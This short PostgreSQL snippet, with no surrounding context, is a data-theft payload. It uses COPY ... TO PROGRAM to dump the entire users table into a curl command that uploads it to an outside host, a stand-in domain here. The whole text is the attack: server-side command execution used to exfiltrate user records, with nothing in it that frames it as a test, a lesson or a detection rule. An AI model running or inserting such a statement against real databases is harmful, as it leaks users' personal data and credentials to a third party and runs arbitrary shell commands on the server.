DO $$
BEGIN
  COPY (SELECT * FROM users) TO PROGRAM 'curl -T - https://example.invalid';
END $$;
